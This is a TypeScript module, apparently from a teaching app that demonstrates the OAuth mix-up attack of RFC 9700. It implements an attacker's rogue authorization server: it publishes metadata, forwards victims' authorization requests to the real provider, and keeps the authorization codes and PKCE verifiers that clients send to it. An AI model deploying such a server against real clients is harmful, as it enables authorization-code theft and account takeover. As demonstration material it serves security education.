import "server-only";
import { mallorysIssuer } from "@seven-steps/story";
import { env } from "@/env";

/**
 * "Mallory's Accounts", the authorization server Mallory runs in her own app for the mix-up card
 * (RFC 9700 §4.4). A client that knows it and PhotoCloud may be sent to it by alice's choice, or
 * by Mallory swapping alice's choice; it does nothing of its own but forward alice to PhotoCloud,
 * and keep whatever the client then sends to its token endpoint.
 */
export const mallorysAccounts = {
  issuer: mallorysIssuer(env.ATTACKER_URL),
  authorizationEndpoint: `${mallorysIssuer(env.ATTACKER_URL)}/authorize`,
  tokenEndpoint: `${mallorysIssuer(env.ATTACKER_URL)}/token`,
};

/**
 * Her metadata (RFC 8414 §2), at `/.well-known/oauth-authorization-server/mallory-accounts`
 * (RFC 8414 §3: the well-known segment goes before the issuer's path). It claims, as PhotoCloud
 * does, to send `iss` in its answers: an honest client then expects hers.
 */
export function mallorysMetadata() {
  return {
    issuer: mallorysAccounts.issuer,
    authorization_endpoint: mallorysAccounts.authorizationEndpoint,
    token_endpoint: mallorysAccounts.tokenEndpoint,
    response_types_supported: ["code"],
    grant_types_supported: ["authorization_code"],
    code_challenge_methods_supported: ["S256"],
    token_endpoint_auth_methods_supported: ["none"],
    authorization_response_iss_parameter_supported: true,
  };
}

/**
 * The mix-up's first move (RFC 9700 §4.4.1): the authorization request the client sent to
 * Mallory's Accounts goes on, unchanged, to PhotoCloud's authorization endpoint. The client's id
 * there is the same here, so she need not swap it. alice then signs in at PhotoCloud, and
 * PhotoCloud answers at the client's redirect URI, with its own `iss`.
 */
export function forwardedToPhotoCloud(request: URL): URL {
  const forwarded = new URL(`${env.ISSUER}/authorize`);
  forwarded.search = request.search;
  return forwarded;
}

/** What a client sent to Mallory's token endpoint: a code of PhotoCloud's, and its PKCE verifier. */
export interface KeptTokenRequest {
  code: string;
  code_verifier: string;
  redirect_uri: string;
  client_id: string;
}

// In memory, by run, for a few minutes: Mallory's app runs as one process, and a run redeems what
// she kept at once.
const kept = new Map<string, { request: KeptTokenRequest; at: number }>();
const keptMilliseconds = 5 * 60 * 1000;

export function keepTokenRequest(runId: string, request: KeptTokenRequest): void {
  const now = Date.now();
  for (const [run, entry] of kept) if (now - entry.at > keptMilliseconds) kept.delete(run);
  kept.set(runId, { request, at: now });
}

/** What a client sent to Mallory's token endpoint during a run, taken out once. */
export function takeKeptTokenRequest(runId: string): KeptTokenRequest | undefined {
  const entry = kept.get(runId);
  kept.delete(runId);
  return entry && Date.now() - entry.at <= keptMilliseconds ? entry.request : undefined;
}
